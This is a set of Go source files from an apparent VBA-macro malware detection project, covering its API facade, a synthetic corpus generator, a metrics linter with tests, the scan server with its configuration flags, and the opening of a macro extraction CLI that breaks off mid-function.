	ErrLimitExceeded = hostile.ErrLimitExceeded
	// ErrMalformed reports structurally invalid input.
	ErrMalformed = hostile.ErrMalformed
	// ErrCycle reports cyclic structural references (FAT loops).
	ErrCycle = hostile.ErrCycle
)

// ClassifyError buckets a scan error into its taxonomy class ("bomb",
// "deadline", "limit", "cycle", "truncated", "malformed"; "" otherwise).
func ClassifyError(err error) string { return hostile.Classify(err) }

// IsQuarantineable reports whether err represents exhausted resource
// budgets — the class of documents worth setting aside rather than
// retrying.
func IsQuarantineable(err error) bool { return hostile.ExhaustsBudget(err) }

// Observability — per-document tracing, a metrics registry with JSON and
// Prometheus rendering, and the sampled verdict audit log (see
// internal/telemetry).

type (
	// Tracer records one document's span tree; attach to a scan with
	// WithTracer or Engine.SetTraceSink.
	Tracer = telemetry.Tracer
	// Trace is a finished, exportable span tree.
	Trace = telemetry.Trace
	// Span is one timed pipeline stage inside a trace.
	Span = telemetry.Span
	// TraceWriter serializes finished traces as JSONL, safe for
	// concurrent scan workers.
	TraceWriter = telemetry.TraceWriter
	// Registry is a metrics registry (counters, gauges, histograms) that
	// renders as JSON and Prometheus text exposition.
	Registry = telemetry.Registry
	// AuditEvent is one verdict audit record: feature vectors, scores,
	// triage flags and the document content hash.
	AuditEvent = telemetry.AuditEvent
	// AuditLogger writes sampled, rate-capped audit events as JSONL.
	AuditLogger = telemetry.AuditLogger
	// AuditConfig tunes audit sampling and caps.
	AuditConfig = telemetry.AuditConfig
)

// Fleet observability — W3C trace-context propagation, model-drift
// monitoring against train-time score baselines, and rolling SLO
// burn-rate tracking (see internal/telemetry and the README's
// Observability section).

type (
	// TraceContext is a W3C trace-context identity (trace ID, span ID,
	// flags) carried on the `traceparent` header and journaled with async
	// work so spans stitch across processes and crashes.
	TraceContext = telemetry.TraceContext
	// DriftMonitor compares rolling production score histograms against
	// train-time baselines per feature channel, reporting PSI.
	DriftMonitor = telemetry.DriftMonitor
	// SLOTracker maintains rolling availability/latency SLIs and
	// burn-rate gauges over 5m and 1h windows.
	SLOTracker = telemetry.SLOTracker
	// SLOReading is one window's point-in-time SLI snapshot.
	SLOReading = telemetry.SLOReading
	// ChannelBaseline is one feature channel's train-time score
	// histogram, persisted inside the model container.
	ChannelBaseline = core.ChannelBaseline
	// ChannelScore is one feature channel's contribution to a macro
	// verdict.
	ChannelScore = core.ChannelScore
)

// ParseTraceparent parses a W3C `traceparent` header value.
func ParseTraceparent(header string) (TraceContext, error) {
	return telemetry.ParseTraceparent(header)
}

// NewTraceContext mints a fresh sampled trace identity.
func NewTraceContext() TraceContext { return telemetry.NewTraceContext() }

// NewDriftMonitor builds a drift monitor with the given rolling window
// per channel (<= 0 means 4096 observations). Seed it with SetBaseline
// from a trained detector's Baselines, then feed production scores to
// Observe.
func NewDriftMonitor(window int) *DriftMonitor {
	return telemetry.NewDriftMonitor(window)
}

// NewSLOTracker builds an SLO tracker with the given availability and
// latency objectives (<= 0 pick the 0.999 / 0.99 defaults) and latency
// threshold (<= 0 means 500ms).
func NewSLOTracker(availTarget, latencyTarget float64, latencyThreshold time.Duration) *SLOTracker {
	return telemetry.NewSLOTracker(availTarget, latencyTarget, latencyThreshold)
}

// NewTracer starts a trace for one document; call Finish before export.
func NewTracer(doc string) *Tracer { return telemetry.NewTracer(doc) }

// NewRegistry builds an empty metrics registry.
func NewRegistry() *Registry { return telemetry.NewRegistry() }

// NewAuditLogger wraps w in a sampled, rate-capped JSONL audit sink.
func NewAuditLogger(w io.Writer, cfg AuditConfig) *AuditLogger {
	return telemetry.NewAuditLogger(w, cfg)
}

// WithTracer returns a context that routes per-stage spans from
// ScanOneCtx (and everything below it) into tr.
func WithTracer(ctx context.Context, tr *Tracer) context.Context {
	return telemetry.ContextWithTracer(ctx, tr)
}

// Container walking and durable intake — how documents actually arrive
// (a .docm inside a .zip attachment, an OLE object nested deeper) and the
// crash-safe queue the vbadetectd async intake path drains (see
// internal/walker and internal/queue).

type (
	// WalkTree is the outcome of recursively opening one submitted file:
	// every scannable document found with provenance, plus per-child
	// issues for a degraded (partial) walk.
	WalkTree = walker.Tree
	// WalkDoc is one scannable document discovered in a container tree.
	WalkDoc = walker.Doc
	// WalkIssue is one per-child failure that degraded a walk.
	WalkIssue = walker.Issue
	// TreeDoc pairs one discovered document with its report (or error).
	TreeDoc = scan.TreeDoc
	// WorkQueue is a persistent journal-backed work queue with
	// at-least-once delivery, visibility timeouts, bounded redelivery
	// and a dead-letter state. Accepted work survives SIGKILL.
	WorkQueue = queue.Queue
	// QueueOptions tunes a WorkQueue; the zero value is usable.
	QueueOptions = queue.Options
	// QueueDelivery is one received job: call exactly one of Ack, Fail
	// or Kill.
	QueueDelivery = queue.Delivery
	// QueueStats is a point-in-time queue summary plus lifetime counters.
	QueueStats = queue.Stats
	// DeadJob is a dead-lettered job awaiting operator redrive.
	DeadJob = queue.DeadJob
)

// Walker sentinels for errors.Is on Walk/ScanTree failures.
var (
	// ErrNotContainer reports a root input that is neither a ZIP archive
	// nor an OLE compound file (matches ErrMalformed).
	ErrNotContainer = walker.ErrNotContainer
	// ErrNoDocuments reports a container with nothing scannable inside.
	ErrNoDocuments = walker.ErrNoDocuments
)

// WalkContainer recursively opens data as a container tree (zip → docm →
// embedded OLE / nested zip) under the given resource limits, returning
// every scannable document with its "!"-joined container path. Archive
// bombs and cyclic references exhaust the budget with typed errors.
func WalkContainer(data []byte, lim Limits) (*WalkTree, error) {
	return walker.Walk(data, hostile.NewBudget(lim))
}

// ScanTree walks data as a container tree and scans every discovered
// document under the detector's limits plus the context deadline. The
// degraded flag marks partial results (children lost to corruption or
// budget limits).
func ScanTree(ctx context.Context, det *Detector, data []byte) ([]TreeDoc, bool, error) {
	return scan.ScanTree(ctx, det, data)
}

// OpenQueue opens (or creates) a durable work queue journaled under dir,
// replaying unacknowledged work from the write-ahead log — the
// crash-recovery path the vbadetectd async intake is built on.
func OpenQueue(dir string, opt QueueOptions) (*WorkQueue, error) {
	return queue.Open(dir, opt)
}

// Deobfuscation and triage — the analyst-facing companions of detection.

// DeobResult is the outcome of static deobfuscation (see internal/deob).
type DeobResult = deob.Result

// TriageReport is an olevba-style triage report (see internal/analysis).
type TriageReport = analysis.Report

// TriageFinding is one triage finding.
type TriageFinding = analysis.Finding

// Deobfuscate constant-folds split and encoded string expressions (the O2
// and O3 obfuscation families), recovering hidden keywords, URLs and paths
// without executing the macro.
func Deobfuscate(src string) DeobResult {
	return deob.Deobfuscate(src)
}

// Triage scans a macro for auto-execution entry points, suspicious
// capability keywords and indicators of compromise, including those only
// visible after deobfuscation.
func Triage(src string) *TriageReport {
	return analysis.Analyze(src)
}

// Horizontal scale — the fleet gateway (see cmd/vbadetectgw and
// internal/fleet).

type (
	// Gateway coordinates a fleet of vbadetectd backends: consistent-hash
	// routing on the document SHA-256, a shared verdict cache, hedged
	// retries with transparent failover, and staged model rollout.
	Gateway = fleet.Gateway
	// GatewayConfig tunes a Gateway; zero values take production defaults.
	GatewayConfig = fleet.Config
	// Ring is the consistent-hash ring the gateway routes on, usable
	// standalone for other sharding schemes.
	Ring = fleet.Ring
)

// ErrNoBackends is returned by a gateway with no routable backend.
var ErrNoBackends = fleet.ErrNoBackends

// NewGateway builds a fleet gateway over the configured backends. Call
// Start to begin health probing and Handler for its HTTP surface.
func NewGateway(cfg GatewayConfig) (*Gateway, error) {
	return fleet.New(cfg)
}

// NewRing builds a consistent-hash ring with the given virtual-node count
// per node (<= 0 applies the default, 128).
func NewRing(vnodes int) *Ring { return fleet.NewRing(vnodes) }
