// Command corpusgen generates the synthetic evaluation corpus — the
// stand-in for the paper's 2,537 collected Office documents — and writes
// the documents plus a metadata index to a directory.
//
// Usage:
//
//	corpusgen -out corpus/ [-scale 0.1] [-seed 1] [-macros-only]
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"

	"repro/internal/corpus"
)

func main() {
	out := flag.String("out", "corpus", "output directory")
	seed := flag.Int64("seed", 1, "generation seed")
	scale := flag.Float64("scale", 1, "count scale factor (1 = full Table II/III sizes)")
	macrosOnly := flag.Bool("macros-only", false, "write macro .vba files instead of documents")
	flag.Parse()
	if err := run(*out, *seed, *scale, *macrosOnly); err != nil {
		fmt.Fprintln(os.Stderr, "corpusgen:", err)
		os.Exit(1)
	}
}

func run(out string, seed int64, scale float64, macrosOnly bool) error {
	spec := corpus.DefaultSpec()
	spec.Seed = seed
	if scale != 1 {
		scaleInt := func(n int) int {
			v := int(float64(n) * scale)
			if v < 1 {
				v = 1
			}
			return v
		}
		spec.BenignFiles = scaleInt(spec.BenignFiles)
		spec.BenignWordFiles = scaleInt(spec.BenignWordFiles)
		spec.MaliciousFiles = scaleInt(spec.MaliciousFiles)
		spec.MaliciousWordFiles = scaleInt(spec.MaliciousWordFiles)
		spec.BenignMacros = scaleInt(spec.BenignMacros)
		spec.BenignObfuscated = scaleInt(spec.BenignObfuscated)
		spec.MaliciousMacros = scaleInt(spec.MaliciousMacros)
		spec.MaliciousObfuscated = scaleInt(spec.MaliciousObfuscated)
	}
	if err := os.MkdirAll(out, 0o755); err != nil {
		return err
	}
	fmt.Printf("generating %d benign + %d malicious macros (seed %d)...\n",
		spec.BenignMacros, spec.MaliciousMacros, seed)
	d := corpus.GenerateMacros(spec)

	type macroMeta struct {
		ID         int    `json:"id"`
		File       string `json:"file,omitempty"`
		Obfuscated bool   `json:"obfuscated"`
		Malicious  bool   `json:"malicious"`
		Origin     string `json:"origin"`
		Bytes      int    `json:"bytes"`
	}
	var metas []macroMeta

	if macrosOnly {
		for i, m := range d.Macros {
			name := fmt.Sprintf("macro_%05d.vba", i)
			if err := os.WriteFile(filepath.Join(out, name), []byte(m.Source), 0o644); err != nil {
				return err
			}
			metas = append(metas, macroMeta{
				ID: i, File: name, Obfuscated: m.Obfuscated,
				Malicious: m.Malicious, Origin: m.Origin, Bytes: len(m.Source),
			})
		}
	} else {
		fmt.Printf("packaging %d documents...\n", spec.BenignFiles+spec.MaliciousFiles)
		files, err := d.BuildFiles()
		if err != nil {
			return err
		}
		for _, f := range files {
			if err := os.WriteFile(filepath.Join(out, f.Name), f.Data, 0o644); err != nil {
				return err
			}
		}
		for i, m := range d.Macros {
			metas = append(metas, macroMeta{
				ID: i, Obfuscated: m.Obfuscated, Malicious: m.Malicious,
				Origin: m.Origin, Bytes: len(m.Source),
			})
		}
	}

	idx, err := os.Create(filepath.Join(out, "index.json"))
	if err != nil {
		return err
	}
	defer idx.Close()
	enc := json.NewEncoder(idx)
	enc.SetIndent("", "  ")
	if err := enc.Encode(metas); err != nil {
		return err
	}
	fmt.Printf("wrote %s (%d macros)\n", out, len(d.Macros))
	return nil
}
