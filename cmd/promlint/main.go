// Command promlint validates Prometheus text exposition read from stdin
// (or a file argument) using the minimal parser in internal/telemetry. CI
// pipes a live /metrics?format=prometheus scrape through it to catch
// malformed exposition before a real scraper would.
//
//	curl -s localhost:8080/metrics?format=prometheus | promlint
//	promlint metrics.txt
//	promlint -max-label-values 50 metrics.txt
//
// Exit status 0 means the scrape parsed, contained at least one counter,
// one histogram and the Go runtime gauges, and (with -max-label-values)
// no metric label exceeded the distinct-value budget; 1 means it did not.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"repro/internal/telemetry"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "promlint:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout io.Writer) error {
	fs := flag.NewFlagSet("promlint", flag.ContinueOnError)
	fs.SetOutput(stdout)
	maxLabelValues := fs.Int("max-label-values", 0,
		"fail when any metric label has more than this many distinct values (0 = no cardinality lint)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var data []byte
	var err error
	switch fs.NArg() {
	case 0:
		data, err = io.ReadAll(os.Stdin)
	case 1:
		data, err = os.ReadFile(fs.Arg(0))
	default:
		return fmt.Errorf("usage: promlint [-max-label-values n] [file]")
	}
	if err != nil {
		return err
	}
	sum, err := telemetry.ParseExposition(data)
	if err != nil {
		return err
	}
	var counters, histograms, goGauges int
	for name, typ := range sum.Families {
		switch typ {
		case "counter":
			counters++
		case "histogram":
			histograms++
		}
		if strings.HasPrefix(name, "go_") {
			goGauges++
		}
	}
	if counters == 0 {
		return fmt.Errorf("exposition has no counter families")
	}
	if histograms == 0 {
		return fmt.Errorf("exposition has no histogram families")
	}
	if goGauges == 0 {
		return fmt.Errorf("exposition has no go_* runtime families")
	}
	if *maxLabelValues > 0 {
		violations := sum.CardinalityViolations(*maxLabelValues)
		for _, v := range violations {
			fmt.Fprintf(stdout, "cardinality: %s{%s} has %d distinct values (max %d)\n",
				v.Metric, v.Label, v.Count, *maxLabelValues)
		}
		if len(violations) > 0 {
			return fmt.Errorf("%d label(s) exceed the cardinality budget of %d",
				len(violations), *maxLabelValues)
		}
	}
	fmt.Fprintf(stdout, "ok: %d families (%d counters, %d histograms, %d go_*), %d samples\n",
		len(sum.Families), counters, histograms, goGauges, sum.Samples)
	return nil
}
