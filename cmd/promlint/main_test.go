package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// goodExposition satisfies the baseline checks: one counter, one
// histogram, one go_* family. The labeled counter carries three distinct
// values of the "code" label for the cardinality tests.
const goodExposition = `# HELP requests_total Total requests.
# TYPE requests_total counter
requests_total{code="200"} 10
requests_total{code="404"} 2
requests_total{code="500"} 1
# HELP scan_seconds Scan latency.
# TYPE scan_seconds histogram
scan_seconds_bucket{le="0.1"} 3
scan_seconds_bucket{le="+Inf"} 5
scan_seconds_sum 0.7
scan_seconds_count 5
# HELP go_goroutines Current goroutines.
# TYPE go_goroutines gauge
go_goroutines 8
`

func lint(t *testing.T, exposition string, args ...string) (string, error) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "metrics.prom")
	if err := os.WriteFile(path, []byte(exposition), 0o644); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	err := run(append(args, path), &out)
	return out.String(), err
}

func TestRunOK(t *testing.T) {
	out, err := lint(t, goodExposition)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if !strings.Contains(out, "ok:") {
		t.Fatalf("output = %q", out)
	}
}

func TestRunRejectsMissingFamilies(t *testing.T) {
	noCounter := strings.ReplaceAll(goodExposition, "counter", "gauge")
	if _, err := lint(t, noCounter); err == nil || !strings.Contains(err.Error(), "no counter") {
		t.Fatalf("err = %v, want no-counter failure", err)
	}
}

func TestCardinalityBudget(t *testing.T) {
	// Budget above the worst label: passes.
	if out, err := lint(t, goodExposition, "-max-label-values", "3"); err != nil {
		t.Fatalf("budget 3: %v (%s)", err, out)
	}
	// Budget below: the offending metric/label pair is reported and the
	// lint fails.
	out, err := lint(t, goodExposition, "-max-label-values", "2")
	if err == nil || !strings.Contains(err.Error(), "cardinality budget") {
		t.Fatalf("budget 2: err = %v", err)
	}
	if !strings.Contains(out, `requests_total{code} has 3 distinct values`) {
		t.Fatalf("violation not reported: %q", out)
	}
	// The histogram's le label never counts against the budget.
	if !strings.Contains(goodExposition, `le="0.1"`) {
		t.Fatal("fixture lost its buckets")
	}
	if out, err := lint(t, goodExposition, "-max-label-values", "1"); err == nil ||
		strings.Contains(out, "scan_seconds_bucket{le}") {
		t.Fatalf("le label leaked into cardinality lint: err=%v out=%q", err, out)
	}
}

func TestCardinalityDisabledByDefault(t *testing.T) {
	// Without the flag even a 1-value budget violation passes.
	if _, err := lint(t, goodExposition); err != nil {
		t.Fatalf("default run: %v", err)
	}
}
