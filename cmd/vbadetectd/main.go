// Command vbadetectd is the long-running scan service: it loads a model
// trained with `vbadetect train` once and serves HTTP scan requests until
// stopped.
//
//	vbadetectd -model model.json -addr :8080
//
// Endpoints:
//
//	POST /v1/scan         classify one document (raw body or multipart);
//	                      append ?trace=1 for an inline per-document span tree
//	POST /v1/scan/batch   classify many documents (multipart)
//	POST /v1/submit       durable async intake (with -intake-dir): journal the
//	                      document crash-safely, return a ticket immediately
//	GET  /v1/tickets/{id} poll an async ticket for its published verdict
//	GET  /v1/model        loaded-model identity: model SHA-256, feature-set
//	                      name/ID, algorithm, channel layout, build info
//	GET  /v1/admin/intake/dead          list dead-lettered submissions
//	POST /v1/admin/intake/redrive/{id}  return a dead submission to the queue
//	POST /v1/admin/reload hot-swap the model from -model (also SIGHUP)
//	GET  /v1/admin/debug/bundle  tar.gz diagnostic snapshot: config, metrics,
//	                      health/SLO state, recent span trees, pprof profiles
//	GET  /healthz         liveness (includes intake queue depth when enabled,
//	                      plus the model-drift detail and rolling SLO readings)
//	GET  /readyz          readiness (503 while draining, modelless, the intake
//	                      journal volume is unwritable, or the intake backlog
//	                      is past -intake-backlog)
//	GET  /metrics         JSON counters and latency histograms;
//	                      ?format=prometheus for text exposition
//	GET  /debug/pprof/*   profiling (only with -pprof)
//
// SIGTERM/SIGINT starts a graceful shutdown: readiness flips to 503, new
// connections stop, and in-flight scans drain for up to -drain-timeout.
//
// Per-document resource budgets (hostile-input hardening) are set with the
// -limit-* flags, the verdict audit log with the -telemetry-audit-* flags,
// and the content-addressed verdict caches with -cache-entries /
// -cache-bytes. -model-mmap memory-maps a compiled model container
// (vbadetect train -compiled) so all workers share one read-only forest
// image, and -classify-batch-window coalesces feature rows from concurrent
// scans into shared forest batch calls. Each flag also reads a VBADETECTD_*
// environment variable as its default, so containerized deployments can
// tune them without changing the command line. Flags win over the
// environment; 0 means the built-in default.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"

	"repro/internal/hostile"
	"repro/internal/server"
	"repro/internal/telemetry"
)

// envInt64 returns the integer value of the named environment variable, or
// def when unset or unparsable. Used as flag defaults so env configures and
// flags override.
func envInt64(name string, def int64) int64 {
	if v := os.Getenv(name); v != "" {
		if n, err := strconv.ParseInt(v, 10, 64); err == nil {
			return n
		}
	}
	return def
}

func envInt(name string, def int) int {
	return int(envInt64(name, int64(def)))
}

func envFloat(name string, def float64) float64 {
	if v := os.Getenv(name); v != "" {
		if f, err := strconv.ParseFloat(v, 64); err == nil {
			return f
		}
	}
	return def
}

func envString(name, def string) string {
	if v := os.Getenv(name); v != "" {
		return v
	}
	return def
}

func envBool(name string, def bool) bool {
	if v := os.Getenv(name); v != "" {
		if b, err := strconv.ParseBool(v); err == nil {
			return b
		}
	}
	return def
}

func envDuration(name string, def time.Duration) time.Duration {
	if v := os.Getenv(name); v != "" {
		if d, err := time.ParseDuration(v); err == nil {
			return d
		}
	}
	return def
}

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "vbadetectd:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("vbadetectd", flag.ExitOnError)
	addr := fs.String("addr", ":8080", "listen address")
	modelPath := fs.String("model", "model.json", "model file from `vbadetect train`")
	maxBody := fs.Int64("max-body", 32<<20, "max request body bytes")
	maxInFlight := fs.Int("max-inflight", 0, "max concurrent scan requests (0 = 2×GOMAXPROCS)")
	queueWait := fs.Duration("queue-wait", 5*time.Second, "max wait for a scan slot before 429")
	scanTimeout := fs.Duration("scan-timeout", 30*time.Second, "per-request scan deadline")
	batchWorkers := fs.Int("batch-workers", 0, "scan.Engine workers per batch request (0 = GOMAXPROCS)")
	drainTimeout := fs.Duration("drain-timeout", 30*time.Second, "max time to drain in-flight scans on shutdown")
	enablePprof := fs.Bool("pprof", false, "expose /debug/pprof/")
	limDecomp := fs.Int64("limit-decompressed-bytes",
		envInt64("VBADETECTD_LIMIT_DECOMPRESSED_BYTES", 0),
		"per-document decompressed-output budget in bytes (0 = 256MiB default)")
	limDepth := fs.Int("limit-container-depth",
		envInt("VBADETECTD_LIMIT_CONTAINER_DEPTH", 0),
		"max nested container depth (0 = default 4)")
	limDir := fs.Int("limit-dir-entries",
		envInt("VBADETECTD_LIMIT_DIR_ENTRIES", 0),
		"max CFB directory entries walked per document (0 = default 16384)")
	limTokens := fs.Int64("limit-lex-tokens",
		envInt64("VBADETECTD_LIMIT_LEX_TOKENS", 0),
		"max VBA lexer tokens per macro (0 = default 4194304)")
	limMacro := fs.Int64("limit-macro-source-bytes",
		envInt64("VBADETECTD_LIMIT_MACRO_SOURCE_BYTES", 0),
		"max bytes of one macro's source (0 = default 16MiB)")
	limStrings := fs.Int("limit-storage-strings",
		envInt("VBADETECTD_LIMIT_STORAGE_STRINGS", 0),
		"max storage strings recovered per document (0 = default 10000)")
	limArchive := fs.Int("limit-archive-entries",
		envInt("VBADETECTD_LIMIT_ARCHIVE_ENTRIES", 0),
		"max archive entries visited by the container walker per submission (0 = default 4096)")
	auditOut := fs.String("telemetry-audit-out",
		envString("VBADETECTD_TELEMETRY_AUDIT_OUT", ""),
		"write verdict audit events as JSONL to this file (empty = disabled)")
	auditSample := fs.Float64("telemetry-audit-sample",
		envFloat("VBADETECTD_TELEMETRY_AUDIT_SAMPLE", 1),
		"audit sampling rate in [0,1], keyed on document hash")
	auditRate := fs.Int("telemetry-audit-rate",
		envInt("VBADETECTD_TELEMETRY_AUDIT_RATE", 0),
		"max audit events written per second (0 = unlimited)")
	auditMaxBytes := fs.Int64("telemetry-audit-max-bytes",
		envInt64("VBADETECTD_TELEMETRY_AUDIT_MAX_BYTES", 0),
		"lifetime audit log byte cap (0 = unlimited)")
	cacheEntries := fs.Int("cache-entries",
		envInt("VBADETECTD_CACHE_ENTRIES", 0),
		"verdict cache entry capacity (0 = default 4096, negative = disable caching and request collapsing)")
	cacheBytes := fs.Int64("cache-bytes",
		envInt64("VBADETECTD_CACHE_BYTES", 0),
		"verdict cache byte budget (0 = default 256MiB, negative = bound by entries alone)")
	modelMmap := fs.Bool("model-mmap",
		envBool("VBADETECTD_MODEL_MMAP", false),
		"memory-map the model file; with a compiled container (vbadetect train -compiled) workers share one read-only model image")
	batchWindow := fs.Duration("classify-batch-window",
		envDuration("VBADETECTD_CLASSIFY_BATCH_WINDOW", 0),
		"coalesce feature rows from concurrent scans into one classify call for up to this long (0 = disabled)")
	batchMaxRows := fs.Int("classify-batch-max-rows",
		envInt("VBADETECTD_CLASSIFY_BATCH_MAX_ROWS", 0),
		"max rows merged into one coalesced classify call (0 = default 256)")
	intakeDir := fs.String("intake-dir",
		envString("VBADETECTD_INTAKE_DIR", ""),
		"enable durable async intake (/v1/submit): journal directory for the crash-safe work queue and published results (empty = disabled)")
	intakeWorkers := fs.Int("intake-workers",
		envInt("VBADETECTD_INTAKE_WORKERS", 0),
		"async intake drain workers (0 = default 2, negative = accept-only)")
	intakeBacklog := fs.Int("intake-backlog",
		envInt("VBADETECTD_INTAKE_BACKLOG", 0),
		"fail /readyz when the intake queue depth exceeds this (0 = default 1024)")
	intakeVisibility := fs.Duration("intake-visibility-timeout",
		envDuration("VBADETECTD_INTAKE_VISIBILITY_TIMEOUT", 0),
		"redeliver a dequeued submission not acknowledged within this (0 = default 60s)")
	intakeMaxAttempts := fs.Int("intake-max-attempts",
		envInt("VBADETECTD_INTAKE_MAX_ATTEMPTS", 0),
		"deliveries before a failing submission is dead-lettered (0 = default 5)")
	intakeRetryBackoff := fs.Duration("intake-retry-backoff",
		envDuration("VBADETECTD_INTAKE_RETRY_BACKOFF", 0),
		"delay before the first redelivery, doubling per attempt (0 = default 1s)")
	intakeWebhooks := fs.Bool("intake-webhooks",
		envBool("VBADETECTD_INTAKE_WEBHOOKS", false),
		"allow async submissions to register a completion webhook (outbound POSTs; off by default)")
	driftWarnPSI := fs.Float64("drift-warn-psi",
		envFloat("VBADETECTD_DRIFT_WARN_PSI", 0),
		"per-channel PSI above which /healthz reports drift as warn (0 = default 0.2, negative = disable drift monitoring)")
	driftWindow := fs.Int("drift-window",
		envInt("VBADETECTD_DRIFT_WINDOW", 0),
		"rolling production-score window per channel in observations (0 = default 4096)")
	sloAvail := fs.Float64("slo-availability-target",
		envFloat("VBADETECTD_SLO_AVAILABILITY_TARGET", 0),
		"availability objective for the /v1/ API burn-rate gauges (0 = default 0.999)")
	sloLatency := fs.Float64("slo-latency-target",
		envFloat("VBADETECTD_SLO_LATENCY_TARGET", 0),
		"latency objective: fraction of /v1/ requests answered within -slo-latency-threshold (0 = default 0.99)")
	sloThreshold := fs.Duration("slo-latency-threshold",
		envDuration("VBADETECTD_SLO_LATENCY_THRESHOLD", 0),
		"latency threshold backing the latency SLO (0 = default 500ms)")
	debugTraces := fs.Int("debug-trace-buffer",
		envInt("VBADETECTD_DEBUG_TRACE_BUFFER", 0),
		"recent span trees retained for the debug bundle (0 = default 64)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	logger := slog.New(slog.NewJSONHandler(os.Stderr, nil))
	var audit *telemetry.AuditLogger
	if *auditOut != "" {
		f, err := os.OpenFile(*auditOut, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			return fmt.Errorf("opening audit log: %w", err)
		}
		defer f.Close()
		audit = telemetry.NewAuditLogger(f, telemetry.AuditConfig{
			SampleRate: *auditSample,
			MaxPerSec:  *auditRate,
			MaxBytes:   *auditMaxBytes,
		})
	}
	srv, err := server.NewFromModelFile(*modelPath, server.Config{
		MaxBodyBytes:          *maxBody,
		MaxInFlight:           *maxInFlight,
		QueueWait:             *queueWait,
		ScanTimeout:           *scanTimeout,
		BatchWorkers:          *batchWorkers,
		EnablePprof:           *enablePprof,
		Logger:                logger,
		Audit:                 audit,
		CacheEntries:          *cacheEntries,
		CacheBytes:            *cacheBytes,
		ModelMmap:             *modelMmap,
		ClassifyBatchWindow:   *batchWindow,
		ClassifyBatchMaxRows:  *batchMaxRows,
		DriftWarnPSI:          *driftWarnPSI,
		DriftWindow:           *driftWindow,
		SLOAvailabilityTarget: *sloAvail,
		SLOLatencyTarget:      *sloLatency,
		SLOLatencyThreshold:   *sloThreshold,
		DebugTraceBuffer:      *debugTraces,
		Limits: hostile.Limits{
			MaxDecompressedBytes: *limDecomp,
			MaxContainerDepth:    *limDepth,
			MaxDirEntries:        *limDir,
			MaxLexTokens:         *limTokens,
			MaxMacroSourceBytes:  *limMacro,
			MaxStorageStrings:    *limStrings,
			MaxArchiveEntries:    *limArchive,
		},
		Intake: server.IntakeConfig{
			Dir:               *intakeDir,
			Workers:           *intakeWorkers,
			BacklogWatermark:  *intakeBacklog,
			VisibilityTimeout: *intakeVisibility,
			MaxAttempts:       *intakeMaxAttempts,
			RetryBackoff:      *intakeRetryBackoff,
			AllowWebhooks:     *intakeWebhooks,
		},
	})
	if err != nil {
		return err
	}
	if err := srv.StartIntake(); err != nil {
		return fmt.Errorf("starting intake: %w", err)
	}

	httpSrv := &http.Server{
		Addr:              *addr,
		Handler:           srv.Handler(),
		ReadHeaderTimeout: 10 * time.Second,
	}

	// SIGHUP hot-reloads the model without dropping requests.
	hup := make(chan os.Signal, 1)
	signal.Notify(hup, syscall.SIGHUP)
	go func() {
		for range hup {
			if err := srv.Reload(); err != nil {
				logger.Error("reload failed", "error", err)
			}
		}
	}()

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
	defer stop()

	errCh := make(chan error, 1)
	go func() {
		logger.Info("listening", "addr", *addr, "model", *modelPath)
		errCh <- httpSrv.ListenAndServe()
	}()

	select {
	case err := <-errCh:
		return err
	case <-ctx.Done():
	}

	logger.Info("shutting down, draining in-flight scans", "timeout", drainTimeout.String())
	srv.BeginShutdown()
	drainCtx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
	defer cancel()
	if err := httpSrv.Shutdown(drainCtx); err != nil {
		return fmt.Errorf("shutdown: %w", err)
	}
	// Shutdown waited for open connections; Drain additionally waits for
	// scans whose requester timed out but whose goroutine is still running.
	if err := srv.Drain(drainCtx); err != nil && !errors.Is(err, context.Canceled) {
		return fmt.Errorf("drain: %w", err)
	}
	if err := srv.Close(); err != nil {
		logger.Error("closing model mapping", "error", err)
	}
	logger.Info("drained, exiting")
	return nil
}
