// Command vbaextract lists, dumps and triages VBA macros from Office
// documents — the olevba-equivalent CLI of this repository.
//
// Usage:
//
//	vbaextract [-dump] [-deob] [-analyze] [-json] file.doc [file2.xlsm ...]
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"

	"repro/internal/analysis"
	"repro/internal/deob"
	"repro/internal/extract"
)

func main() {
	dump := flag.Bool("dump", false, "print full macro source code")
	deobFlag := flag.Bool("deob", false, "constant-fold split/encoded strings before printing")
	analyze := flag.Bool("analyze", false, "triage: autoexec entry points, suspicious keywords, IOCs")
	asJSON := flag.Bool("json", false, "emit a JSON report per file")
	flag.Parse()
	if flag.NArg() == 0 {
		fmt.Fprintln(os.Stderr, "usage: vbaextract [-dump] [-deob] [-analyze] [-json] file...")
		os.Exit(2)
	}
	exitCode := 0
	for _, path := range flag.Args() {
		if err := run(path, *dump, *deobFlag, *analyze, *asJSON); err != nil {
			fmt.Fprintf(os.Stderr, "vbaextract: %s: %v\n", path, err)
			exitCode = 1
		}
	}
	os.Exit(exitCode)
}

type fileReport struct {
	File    string        `json:"file"`
	Format  string        `json:"format"`
	Project string        `json:"project"`
	Macros  []macroReport `json:"macros"`
	// Storage holds IOC findings from document storage outside the macro
	// code (UserForm captions, document variables).
	Storage []findingReport `json:"storageFindings,omitempty"`
}

type macroReport struct {
	Module   string          `json:"module"`
	Bytes    int             `json:"bytes"`
	Doc      bool            `json:"documentModule"`
	Source   string          `json:"source,omitempty"`
	Folds    int             `json:"deobfuscationFolds,omitempty"`
	Findings []findingReport `json:"findings,omitempty"`
}

type findingReport struct {
	Kind   string `json:"kind"`
	Value  string `json:"value"`
	Hidden bool   `json:"revealedByDeobfuscation,omitempty"`
}

func run(path string, dump, useDeob, doAnalyze, asJSON bool) error {
	data, err := os.ReadFile(path)
